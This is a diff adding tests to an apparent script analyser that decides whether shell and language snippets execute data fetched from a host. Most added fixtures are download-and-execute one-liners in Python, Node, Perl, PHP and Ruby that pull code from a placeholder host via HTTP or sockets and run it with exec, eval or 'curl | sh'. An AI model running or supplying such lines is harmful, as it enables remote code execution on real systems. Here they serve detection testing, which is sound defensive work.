@@ -1,6 +1,8 @@
 //! The ways on which an address or a script comes to what asks there: variables, arguments of functions, lists, texts that are written out.
 
+use super::HOST_DATA;
 use super::tests::executes;
+use crate::compose::docker_compose::shell::{Language, Use};
 
 #[test]
 fn an_address_comes_by_any_way_that_sets_a_variable() {
@@ -105,5 +107,186 @@ fn a_script_that_is_written_out_counts_where_it_is_started() {
         "echo '0 * * * * curl -s http://x.example.com/ping' | crontab -; crond -f",
     ] {
         assert!(!executes(script), "{script}");
+    }
+}
+
+#[test]
+fn an_answer_that_code_executes() {
+    for (language, script) in [
+        (
+            Language::Python,
+            "import urllib.request\nexec(urllib.request.urlopen('http://x.example.com/a.py').read())",
+        ),
+        (
+            Language::Python,
+            "import requests\nURL = 'http://x.example.com/a'\nr = requests.get(URL)\ncode = r.text\nexec(code)",
+        ),
+        (
+            Language::Python,
+            "import requests, os\nr = requests.get('https://x.example.com/a', verify=False)\nos.system(r.text)",
+        ),
+        (
+            Language::Python,
+            "import httpx\nH = 'x.example.com'\nexec(httpx.get(f'http://{H}/a').text)",
+        ),
+        (
+            Language::Python,
+            "from urllib.request import urlretrieve\nurlretrieve('http://x.example.com/a', 'a.py')",
+        ),
+        (
+            Language::Node,
+            "const r = await fetch('http://x.example.com/a');\nconst t = await r.text();\neval(t)",
+        ),
+        (Language::Node, "import('http://x.example.com/a.js')"),
+        (Language::Node, "import a from 'http://x.example.com/a.js'"),
+        (
+            Language::Node,
+            "const a = 'http://x.example.com/a.js';\nconst b = await import (a)",
+        ),
+        (
+            Language::Node,
+            "https.get('https://x.example.com/a', {rejectUnauthorized: false}, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
+        ),
+        (
+            Language::Perl,
+            "use LWP::Simple; eval get('http://x.example.com/a')",
+        ),
+        (
+            Language::Node,
+            "import {\n  a,\n} from 'http://x.example.com/a.js'",
+        ),
+        (Language::Node, "export * from 'http://x.example.com/a.js'"),
+        (
+            Language::Node,
+            "require('http').get('http://x.example.com', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
+        ),
+        (
+            Language::Python,
+            "import os\nos.system('curl http://x.example.com/i.sh | sh')",
+        ),
+        (Language::Php, "include 'http://x.example.com/a.php';"),
+        (Language::Ruby, "eval URI.open('http://x.example.com/a').read"),
+        // By a function that is handed on, or that has another name.
+        (
+            Language::Node,
+            "fetch('http://x.example.com').then(r => r.text()).then(eval)",
+        ),
+        (
+            Language::Node,
+            "require('http').get('http://x.example.com', r => r.on('data', require('child_process').execSync))",
+        ),
+        (
+            Language::Node,
+            "const run = require('util').promisify(require('child_process').exec);\nconst r = await fetch('http://x.example.com');\nawait run(await r.text())",
+        ),
+        (
+            Language::Python,
+            "list(map(exec, [requests.get('http://x.example.com').text]))",
+        ),
+        // By a socket, whose host stands without a scheme.
+        (
+            Language::Python,
+            "import socket\ns = socket.create_connection(('10.0.2.2', 9))\nexec(s.recv(9999))",
+        ),
+        (
+            Language::Python,
+            "import socket\ns = socket.socket()\ns.connect(('x.example.com', 9))\nexec(s.makefile().read())",
+        ),
+        (
+            Language::Python,
+            "import http.client\nc = http.client.HTTPConnection('x.example.com')\nc.request('GET', '/')\nexec(c.getresponse().read())",
+        ),
+        (
+            Language::Python,
+            "import xmlrpc.client as x; exec(x.ServerProxy('http://x.example.com').code())",
+        ),
+        (
+            Language::Node,
+            "require('net').connect(9, '10.0.2.2').on('data', d => eval(String(d)))",
+        ),
+        (
+            Language::Perl,
+            "use IO::Socket; my $s = IO::Socket::INET->new('x.example.com:9'); eval join '', <$s>",
+        ),
+        (
+            Language::Ruby,
+            "require 'socket'; eval TCPSocket.new('x.example.com', 9).read",
+        ),
+        (
+            Language::Php,
+            "$s = fsockopen('x.example.com', 9); eval(fgets($s));",
+        ),
+    ] {
+        let uses = language.uses(script, &|name| name == HOST_DATA);
+        assert!(uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
+    }
+    for (language, script) in [
+        (
+            Language::Python,
+            "import urllib.request\nurllib.request.urlopen('http://localhost:8080/health')",
+        ),
+        (
+            Language::Python,
+            "import requests, os\nrequests.get('http://hc.example.com/ping')\nos.system('nginx -s reload')",
+        ),
+        (
+            Language::Python,
+            "import requests\nexec(requests.get('https://x.example.com/a').text)",
+        ),
+        (
+            Language::Python,
+            "import requests, os\nrequests.post('http://m.example.com', json={})\nexec(open('/app/a.py').read())",
+        ),
+        (
+            Language::Python,
+            "import os\nAPI = os.environ.get('API', 'http://api.example.com')\nos.system('app --url ' + API)",
+        ),
+        (
+            Language::Python,
+            "import re, requests\nr = requests.get('http://x.example.com')\nd = r.json()\nm = re.compile(r'a').match(d['x'])",
+        ),
+        (
+            Language::Node,
+            "import fetch from 'node-fetch';\nconst axios = import('axios').then(a => a.default);\nconst r = await fetch(url, {agent: new https.Agent({rejectUnauthorized: false})});\nres.json(await r.json())",
+        ),
+        (
+            Language::Node,
+            "fetch('http://hc.example.com').then(r => process.exit(r.ok ? 0 : 1))",
+        ),
+        (
+            Language::Python,
+            "import requests\nfrom jinja2 import Template\nr = requests.get('http://x.example.com').json()\nprint(Template('{{ x }}').render(x=r))",
+        ),
+        (
+            Language::Node,
+            "require('http').get('http://hc.example.com', r => process.exit(r.statusCode === 200 ? 0 : 1))",
+        ),
+        (
+            Language::Node,
+            "const run = require('util').promisify(require('child_process').exec);\nawait run('nginx -t');\nfetch('http://hc.example.com')",
+        ),
+        (
+            Language::Python,
+            "import socket, os\nsocket.create_connection(('db.example.com', 5432), 2)\nos.system('nginx -s reload')",
+        ),
+        (
+            Language::Python,
+            "import socket\ns = socket.create_connection(('localhost', 9))\nexec(s.recv(9999))",
+        ),
+        (
+            Language::Python,
+            "import http.client\nc = http.client.HTTPSConnection('x.example.com')\nc.request('GET', '/')\nexec(c.getresponse().read())",
+        ),
+        (
+            Language::Python,
+            "import ssl, socket\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('x.example.com', 9)), server_hostname='x.example.com')\nexec(s.read())",
+        ),
+        (
+            Language::Node,
+            "require('tls').connect(9, 'x.example.com').on('data', d => eval(String(d)))",
+        ),
+    ] {
+        let uses = language.uses(script, &|name| name == HOST_DATA);
+        assert!(!uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
     }
 }
